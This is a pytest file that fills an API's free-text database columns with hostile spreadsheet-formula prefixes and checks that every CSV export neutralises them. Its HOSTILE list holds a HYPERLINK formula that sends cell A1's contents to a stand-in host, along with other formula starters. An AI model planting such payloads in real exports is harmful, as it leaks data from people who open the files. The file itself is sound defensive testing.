"""Medium 3 (issue 14): CSV formula injection. Every CSV the API writes shows hostile text literally.

The CSV routes are found from the OpenAPI document (every GET whose 200 answer offers text/csv), not
from a hand list, so a new CSV route is covered the day it ships."""

from __future__ import annotations

import csv
import io
import re
from typing import Any

import httpx
import pytest
from fastapi import FastAPI
from sqlalchemy import String, Text, select, text
from sqlalchemy.ext.asyncio import AsyncSession

from api.core.representation import FORMULA_START, neutralise
from api.db.base import Base
from api.models import Fund, Report, Unit

# Columns people type freely (names, titles, notes); codes, paths and enums keep their meaning.
FREE_TEXT = {
    "name",
    "display_name",
    "title",
    "notes",
    "recipient_name",
    "school",
    "issuing_body",
    "decision_number",
    "inspecting_body",
    "subject_name",
    "findings",
    "description",
    "filename",
}
APPEND_ONLY = {"fund_entries", "audit_log", "changes"}  # their triggers refuse UPDATE
HOSTILE = ['=HYPERLINK("http://x.example/?"&A1,"bấm")', "+1+1", "-2+3", "@SUM(1)", "\tTab", "\rCR"]
NUMBER = re.compile(r"^-?\d+(\.\d+)?([eE][-+]?\d+)?$")


def csv_routes(app: FastAPI) -> list[tuple[str, list[str]]]:
    out = []
    for path, ops in app.openapi()["paths"].items():
        op = ops.get("get")
        if op and "text/csv" in op.get("responses", {}).get("200", {}).get("content", {}):
            out.append((path, [p["name"] for p in op.get("parameters", []) if p.get("required")]))
    return out


async def make_hostile(session: AsyncSession) -> None:
    """Every free-text column of every table starts with a formula character (rolled back after the test)."""
    k = 0
    for table in Base.metadata.sorted_tables:
        if table.name in APPEND_ONLY:
            continue
        for column in table.columns:
            if column.name in FREE_TEXT and isinstance(column.type, String | Text):
                prefix = HOSTILE[k % len(HOSTILE)]
                k += 1
                value = f':p || "{column.name}"'
                length = getattr(column.type, "length", None)
                if length:  # a short code column named like free text (a decision's title: cong_dong_xa)
                    value = f"substr({value}, 1, {length})"
                q = f'UPDATE {table.name} SET "{column.name}" = {value}'
                await session.execute(text(q), {"p": prefix})
    await session.flush()


async def path_values(session: AsyncSession) -> dict[str, Any]:
    report = (await session.execute(select(Unit.code, Report.year).join(Unit, Unit.id == Report.unit_id))).first()
    assert report is not None
    return {
        "code": "33",
        "unit_code": report[0],
        "year": report[1],
        "indicator": "members",
        "record_id": await session.scalar(select(Fund.id).order_by(Fund.id)),
        "unit": "33",
        "title": "gia_dinh",  # /recognition/stats/distribution
    }


def cells(body: str) -> list[str]:
    return [c for row in csv.reader(io.StringIO(body.removeprefix("\ufeff"))) for c in row]


def test_neutralise_keeps_numbers_and_plain_text() -> None:
    assert neutralise("Nguyễn Văn A") == "Nguyễn Văn A"
    assert [neutralise(h)[0] for h in HOSTILE] == ["'"] * len(HOSTILE)
    assert set(FORMULA_START) == {"=", "+", "-", "@", "\t", "\r"}


async def test_no_csv_cell_starts_a_formula(client: httpx.AsyncClient, app: FastAPI, session: AsyncSession) -> None:
    """Medium 3: every CSV route, hostile names everywhere; no unescaped formula start, numbers stay numbers."""
    await make_hostile(session)
    values = await path_values(session)
    routes = csv_routes(app)
    assert len(routes) >= 15 and "/api/v1/awards/export" in dict(routes)
    neutralised: set[str] = set()
    for path, required in routes:
        url = re.sub(r"\{(\w+)\}", lambda m: str(values[m.group(1)]), path)
        params = {name: values.get(name, 2023) for name in required if "{" + name + "}" not in path}
        if "/stats/" in path:
            params |= {"unit": "33"}
        if path.startswith("/api/v1/public/"):
            params |= {"unit": "34", "year": 2023}  # a published year (the demo publishes Thái Bình 2022 and 2023)
        r = await client.get(url, params={**params, "format": "csv"}, headers={"Accept": "text/csv"})
        assert r.status_code == 200, f"{path}: {r.status_code} {r.text[:300]}"
        assert r.headers["content-type"].startswith("text/csv"), path
        for cell in cells(r.text):
            if cell.startswith(FORMULA_START) and not NUMBER.match(cell):
                pytest.fail(f"{path}: a cell starts a formula: {cell[:60]!r}")
            if cell.startswith("'") and cell[1:].startswith(FORMULA_START):
                neutralised.add(path)
    # The hostile names reached the files (else the test would prove nothing).
    assert {
        "/api/v1/units",
        "/api/v1/units/{code}/children",
        "/api/v1/awards",
        "/api/v1/awards/export",
        "/api/v1/stats/indicators",
        "/api/v1/funds",
        "/api/v1/associations",
    } <= neutralised


async def test_negative_numbers_stay_numbers() -> None:
    from api.core.representation import csv_bytes

    body = csv_bytes([{"gap": -0.25, "n": -3, "name": "-3"}]).decode()
    assert cells(body)[3:] == ["-0.25", "-3", "'-3"]
